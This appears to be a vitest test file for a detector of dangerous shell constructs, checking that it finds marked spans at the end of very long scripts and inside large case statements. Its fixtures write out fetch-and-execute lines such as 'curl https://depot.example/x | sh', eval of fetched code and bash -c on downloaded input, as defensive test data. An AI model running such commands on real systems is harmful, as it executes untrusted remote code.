import { describe, expect, it } from "vitest";
import { longScript } from "../../bench/long-script.js";
import { sharedDetector } from "../support/marked.js";
import { assertSound } from "./invariants.js";

/**
 * Programs at the end of a long script, with the expected finding between « and ». They use functions that the script has called many
 * times.
 */
const endings: Readonly<Record<string, string>> = {
  "a function that fetches": '«eval "$(_fetch https://depot.example/x)"»\n',
  "a function that executes its argument":
    '_run() {\n  «eval "$1"»\n}\n_run "echo one"\n_run "$two"\n_run "$(_fetch https://depot.example/x)"\n',
  "a variable that another function sets":
    '_begin() {\n  «eval "$_program"»\n}\n_begin\n_program="$(_fetch https://depot.example/x)"\n_begin\n',
  "a program that is passed to a function":
    '_through() {\n  «curl -s https://depot.example/x | "$1"»\n}\n_through cat\n_through wc\n_through sh\n',
  "an option that is passed to a function":
    '_get() {\n  curl -s "$1" "$2" https://depot.example/x\n}\n_get -o /tmp/x | sh\n_get --header "A: b" | wc\n«_get -m 3 | sh»\n',
  "parameters after removed ones":
    '_later() {\n  _first="$1"\n  shift\n  «bash -c "$1"»\n}\n_later one two\n_later one "$(_fetch https://depot.example/x)"\n',
};

describe("long scripts", { timeout: 120_000 }, () => {
  // the script of the next test has 125,000 characters, and test/release/hostile-sizes.test.ts reads one of 250,000
  it("of 31,000 characters without a finding are analyzed completely", async () => {
    const text = longScript(31_000);
    const detection = (await sharedDetector()).detect(text);
    assertSound(text, detection);
    expect(detection.outcome).toEqual({ status: "complete" });
    expect(detection.spans).toEqual([]);
  });

  it("have all findings of their last lines", async () => {
    const ends = Object.values(endings);
    const text = longScript(125_000, ends.join("\n").replace(/[«»]/g, ""));
    const { findings, outcome } = (await sharedDetector()).detect(text);
    expect(outcome).toEqual({ status: "complete" });
    expect(findings.map((finding) => finding.text)).toEqual(
      ends.map((marked) => /«(.*)»/.exec(marked)?.[1]),
    );
  });

  it.each([
    ["a pipe", "«curl https://depot.example/x | sh»"],
    ["a pipe after a condition", "installed && «curl https://depot.example/x | sh»"],
    ["a quoted pipe", "echo 'curl https://depot.example/x | sh'"],
    ["a pipe in a comment", "true # curl https://depot.example/x | sh"],
  ])(
    "with a case command of 1,200 arms are analyzed completely: %s in one arm",
    async (_, marked) => {
      const command = marked.replace(/[«»]/g, "");
      const wanted = [/«(.*)»/.exec(marked)?.[1]].filter((each) => each !== undefined);
      for (const pattern of ["x", "(x)", '"a b"|x', "[xy]*", "*"]) {
        for (const isOnOneLine of [true, false]) {
          const [before, behind] = isOnOneLine
            ? [" ", command.includes("#") ? "\n" : " "]
            : ["\n", "\n"];
          const arm = `  ${pattern})${before}${command}${behind};;\n`;
          const text = `#!/bin/sh\ncase "$1" in\n${manyArms}${arm}${manyArms}esac\n`;
          const { findings, outcome } = (await sharedDetector()).detect(text, { format: "shell" });
          expect(outcome, pattern).toEqual({ status: "complete" });
          expect(
            findings.map((finding) => finding.text),
            arm,
          ).toEqual(wanted);
        }
      }
    },
  );
});

/** Arms of a case command, more than are parsed at once. */
const manyArms = Array.from(
  { length: 600 },
  (_, at) => `  ${String(at)}) check && run_${String(at)} ;;\n`,
).join("");
